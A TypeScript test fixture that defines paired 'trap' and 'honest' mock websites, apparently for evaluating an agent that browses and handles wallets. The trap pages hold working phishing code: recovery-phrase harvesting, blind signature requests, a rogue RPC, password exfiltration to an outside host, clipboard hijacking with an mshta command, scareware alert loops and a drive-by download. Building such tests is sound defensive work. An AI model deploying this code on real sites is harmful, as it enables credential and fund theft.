import encodeQR from 'qr'
import { byPath, page } from './page.ts'
import type { Site, SiteAnswer } from './site.ts'
import { onPress } from './walletCode.ts'

type BrowserSite = Pick<Site, 'kind' | 'twinOf' | 'sees' | 'answer'>

const HASH = `0x${'5e'.repeat(32)}`
const ADDRESS = '0x9b1c5a0d3f2e4b6a7c8d9e0f1a2b3c4d5e6f7a8b'
const SIGN_IN = 'snipe-desk.test wants you to sign in. Nonce: 4711.'
/** A recovery phrase that a server hands out. */
const SERVED_PHRASE = 'day weather salon soon scrub update appear consider asthma quantum motion gate'
/** A QR code as a drawing. */
const code = (text: string) => `<div style="width:220px">${encodeQR(text, 'svg', { scale: 4 })}</div>`
/** The mark of MetaMask in 16 × 16 cells: which are covered, and which of them are light. */
const FOX = {
  covered: '00006006f81fffffffffffff7ffe7ffe7ffeffffffffffffffff7ffe61860180',
  light: '00000000181807e007e003c003c00ff07ffef18ffdbfffff8ff10e7021840180',
}
/** The same as a drawing of squares. */
const fox = (side: number) => {
  const isSet = (hex: string, cell: number) =>
    ((Number.parseInt(hex[cell >> 2] ?? '0', 16) >> (3 - (cell & 3))) & 1) === 1
  const cells = Array.from({ length: 256 }, (_, cell) =>
    isSet(FOX.covered, cell)
      ? `<path fill="${isSet(FOX.light, cell) ? '#f6851b' : '#8f4a12'}" d="M${cell % 16} ${cell >> 4}h1.05v1.05h-1.05z"/>`
      : '',
  )
  return `<svg width="${side}" height="${side}" viewBox="0 0 16 16">${cells.join('')}</svg>`
}
const ETHEREUM = '0x1'
const GNOSIS = '0x64'

const only = (title: string, body: string, code: string) =>
  byPath({ '/': page(title, `<h1>${title}</h1>${body}<script>${code}</script>`) })

/** JavaScript that asks the wallet to add a network (EIP-3085). */
const addsNetwork = (chainId: string, chainName: string, rpcUrl: string) =>
  onPress(
    'connect',
    `  await request('wallet_addEthereumChain', [${JSON.stringify({ chainId, chainName, rpcUrls: [rpcUrl] })}])`,
  )

/** A box that is drawn as a window of a browser, at the lower right. */
const drawnWindow = (address: string, content: string) =>
  `<div style="position:fixed;right:10px;bottom:10px;width:320px;height:260px;background:#fff;box-shadow:0 0 9px #0006"><div style="padding:6px">${'<i style="display:inline-block;width:11px;height:11px;margin:3px;border-radius:50%;background:#c55"></i>'.repeat(3)} <span>${address}</span></div><div style="padding:60px 20px">${content}</div></div>`

const file = (name: string, type: string): SiteAnswer => ({
  status: 200,
  headers: { 'content-type': type, 'content-disposition': `attachment; filename="${name}"` },
  body: 'sandbox',
})

/** JavaScript that fills a shadow root with a form of twelve fields after a press. The words are put together when it runs. */
const fieldsAfterPress = (asked: readonly string[], label: string) => `document.getElementById('next').onclick = () => {
  const root = document.getElementById('app').attachShadow({ mode: 'open' })
  const fields = Array.from({ length: 12 }, (_, at) => '<input placeholder="' + ${JSON.stringify(label)} + ' ' + (at + 1) + '">')
  root.innerHTML = '<p>' + ${JSON.stringify(asked)}.join('') + '</p><form>' + fields.join('') + '<button>Continue</button></form>'
}`

/** Sites that show what they do only to a browser that runs them, one sign each, and honest ones that do what looks like it. */
const BROWSER_SITES = {
  'godwit-vault': {
    kind: 'trap',
    twinOf: 'dunlin-vault',
    sees: 'twelve fields for a recovery phrase, which its script makes in a shadow root after a press',
    answer: only(
      'Godwit Vault',
      '<p>Sync your wallet.</p><div id="app"></div><button id="next">Continue</button>',
      fieldsAfterPress(['Enter your 12-', 'word recov', 'ery phr', 'ase of your wallet'], 'Word'),
    ),
  },
  'dunlin-vault': {
    kind: 'honest',
    twinOf: 'godwit-vault',
    sees: 'twelve fields for the months of a budget, made in the same way',
    answer: only(
      'Dunlin Vault',
      '<p>Plan your savings.</p><div id="app"></div><button id="next">Continue</button>',
      fieldsAfterPress(['Enter what you ', 'save in each mon', 'th of the year'], 'Month'),
    ),
  },
  'smew-desk': {
    kind: 'trap',
    twinOf: 'snipe-desk',
    sees: 'a signature of a bare hash, asked for without a press',
    answer: only(
      'Smew Desk',
      '<p>Loading your account.</p>',
      `ethereum.request({ method: 'eth_requestAccounts' }).then(([account]) =>
  ethereum.request({ method: 'eth_sign', params: [account, '${HASH}'] })).catch(() => undefined)`,
    ),
  },
  'snipe-desk': {
    kind: 'honest',
    twinOf: 'smew-desk',
    sees: 'a signature of a readable sentence after a press',
    answer: only(
      'Snipe Desk',
      '<button id="in">Sign in with your wallet</button>',
      onPress('in', `  await request('personal_sign', ['${SIGN_IN}', account])`),
    ),
  },
  'ruff-network': {
    kind: 'trap',
    twinOf: 'reeve-network',
    sees: 'a network that every wallet has, with an RPC server of the site’s own',
    answer: only(
      'Ruff Network',
      '<button id="connect">Connect wallet</button>',
      addsNetwork(ETHEREUM, 'Ethereum', 'https://rpc.ruff-network.test/'),
    ),
  },
  'reeve-network': {
    kind: 'honest',
    twinOf: 'ruff-network',
    sees: 'a network that wallets do not have yet',
    answer: only(
      'Reeve Network',
      '<button id="connect">Connect wallet</button>',
      addsNetwork(GNOSIS, 'Gnosis', 'https://rpc.reeve-network.test/'),
    ),
  },
  'pochard-desk': {
    kind: 'trap',
    twinOf: 'tufted-desk',
    sees: 'a phrase that is sent while other words are kept back, a command and an address that are copied and not shown, a QR code that pays another address, a permission without a limit, a payment without a price, the mark of a wallet at its top, a window with the address of another site, whose password leaves for that site as the address of a picture and by a script',
    answer: only(
      'Pochard Desk',
      `<header>${fox(56)}</header><section><p>Case 11. Pay to <code>${ADDRESS}</code></p>${code(`ethereum:0x${'d1'.repeat(20)}`)}</section><textarea rows="3" cols="60"></textarea>
<button id="send">Continue</button><button id="fix">Copy the fix</button><button id="pay">Copy address</button><button id="plan">Start</button>${drawnWindow('https://id.scaup-accounts.net/login', '<input type="password" size="20">')}`,
      `const on = (id, run) => { document.getElementById(id).onclick = run }
on('send', () => {
  const words = document.querySelector('textarea').value.trim().split(/\\s+/)
  if (words.length === 12 && words.every((one) => one.length < 9))
    navigator.sendBeacon('/case', btoa(words.join('-')))
  const { value } = document.querySelector('input[type=password]')
  if (!value) return
  new Image().src = 'https://scaup-accounts.net/p?' + btoa(value)
  fetch('https://scaup-accounts.net/p', { method: 'POST', mode: 'no-cors', body: value }).catch(() => undefined)
})
on('fix', () => navigator.clipboard.writeText('mshta https://pochard-desk.test/fix'))
on('pay', () => navigator.clipboard.writeText('${ADDRESS.slice(0, 38)}' + '0000'))
${onPress(
  'plan',
  `  await request('wallet_grantPermissions', [{ permission: { data: { periodAmount: '0x${'ff'.repeat(32)}' } } }]).catch(() => undefined)
  await request('eth_sendTransaction', [{ from: account, to: '${ADDRESS}', value: '0x8ac7230489e80000' }])`,
)}`,
    ),
  },
  'tufted-desk': {
    kind: 'honest',
    twinOf: 'pochard-desk',
    sees: 'a message that is sent whatever it says, and what is shown is what is copied',
    answer: only(
      'Tufted Desk',
      `<p>Write to us. Install with <code>curl -fsSL https://tufted-desk.test/i | sh</code>, or donate to <code>${ADDRESS}</code>.</p>${code(`ethereum:${ADDRESS}`)}
<textarea rows="3" cols="60"></textarea><button id="send">Continue</button><button id="fix">Copy the command</button><button id="pay">Copy address</button>${drawnWindow('https://tufted-desk.test/help', '<input type="search" size="20">')}`,
      `const on = (id, run) => { document.getElementById(id).onclick = run }
on('send', () => fetch('/message', { method: 'POST', body: document.querySelector('textarea').value }))
on('fix', () => navigator.clipboard.writeText('curl -fsSL https://tufted-desk.test/i | sh'))
on('pay', () => navigator.clipboard.writeText('${ADDRESS}'))`,
    ),
  },
  'wigeon-desk': {
    kind: 'trap',
    twinOf: 'gadwall-desk',
    sees: 'the number of a card that leaves for its own server, the code of a device for another provider, and a recovery phrase of a server',
    answer: byPath({
      '/': page(
        'Wigeon Desk',
        `<h1>Wigeon Desk</h1><p>Redelivery: 1.20</p><form><input name="cardNumber"><input name="expiry" placeholder="MM/YY"><input name="cvv"><button id="pay">Pay</button></form><button id="open">Open the letter</button><p id="out"></p><script>
const out = document.getElementById('out')
document.querySelector('form').onsubmit = (event) => { event.preventDefault(); fetch('/pay', { method: 'POST', body: JSON.stringify(Object.fromEntries(new FormData(event.target))) }) }
document.getElementById('open').onclick = async () => {
  const { code, words } = await (await fetch('/api/letter')).json()
  out.innerHTML = 'Your wallet: ' + words + '. Enter <b>' + code + '</b> at <a href="https://github.com/login/device">the sign-in</a>.'
}</script>`,
      ),
      '/api/letter': {
        status: 200,
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ code: 'WDJB-MJHT', words: SERVED_PHRASE }),
      },
    }),
  },
  'gadwall-desk': {
    kind: 'honest',
    twinOf: 'wigeon-desk',
    sees: 'the number of a library card, and how a program is signed in, with the code that it prints',
    answer: only(
      'Gadwall Desk',
      '<p>Run <code>gadwall login</code>, open <a href="https://github.com/login/device">github.com/login/device</a> and enter the code that it prints, such as WDJB-MJHT.</p><form><input name="cardNumber" placeholder="Card number of the library"><button>Renew</button></form>',
      "document.querySelector('form').onsubmit = (event) => { event.preventDefault(); fetch('/renew', { method: 'POST', body: new FormData(event.target) }) }",
    ),
  },
  'gannet-alarm': {
    kind: 'trap',
    twinOf: 'puffin-cookies',
    sees: 'one dialog after another',
    answer: only(
      'Gannet Alarm',
      '<p>Call the help line.</p>',
      `for (const text of ['Your computer is locked.', 'Call the help line.', 'Do not close this window.']) alert(text)`,
    ),
  },
  'skua-alarm': {
    kind: 'trap',
    twinOf: 'puffin-cookies',
    sees: 'the same dialog for ever',
    answer: only('Skua Alarm', '<p>Call the help line.</p>', `for (;;) alert('Your computer is locked.')`),
  },
  'puffin-cookies': {
    kind: 'honest',
    twinOf: 'gannet-alarm',
    sees: 'one question in a dialog',
    answer: only(
      'Puffin Cookies',
      '<p>Oat, lemon and ginger.</p>',
      `if (confirm('May we count visits?')) document.title += '!'`,
    ),
  },
  'dunnock-notes': {
    kind: 'trap',
    twinOf: 'wheatear-notes',
    sees: 'an address that goes into the clipboard by itself',
    answer: only(
      'Dunnock Notes',
      '<p>Notes of a garden.</p>',
      `navigator['clip' + 'board'].writeText(['${ADDRESS.slice(0, 20)}', '${ADDRESS.slice(20)}'].join(''))`,
    ),
  },
  'wheatear-notes': {
    kind: 'honest',
    twinOf: 'dunnock-notes',
    sees: 'an address that goes into the clipboard when the visitor copies it',
    answer: only(
      'Wheatear Notes',
      '<p>Notes of a garden. Thank us with a coin.</p><button id="copy">Copy address</button>',
      `document.getElementById('copy').addEventListener('click', () => navigator.clipboard.writeText('${ADDRESS}'))`,
    ),
  },
  'garganey-files': {
    kind: 'trap',
    twinOf: 'shoveler-files',
    sees: 'a program that comes without a press',
    answer: byPath({
      '/': page(
        'Garganey Files',
        `<h1>Garganey Files</h1><p>Your file is on its way.</p><script>location.href = ['/get', 'it'].join('/')</script>`,
      ),
      '/get/it': file('player-setup.exe', 'application/octet-stream'),
    }),
  },
  'shoveler-files': {
    kind: 'honest',
    twinOf: 'garganey-files',
    sees: 'a link to a catalogue',
    answer: byPath({
      '/': page('Shoveler Files', '<h1>Shoveler Files</h1><a href="/catalogue.pdf" download>Catalogue (PDF)</a>'),
      '/catalogue.pdf': file('catalogue.pdf', 'application/pdf'),
    }),
  },
} as const satisfies Record<string, BrowserSite>

export function browserSites(): Site[] {
  return (Object.entries(BROWSER_SITES) as [string, BrowserSite][]).map(([name, site]) => ({
    ...site,
    name,
    url: `https://${name}.test/`,
    hosts: [`${name}.test`],
  }))
}
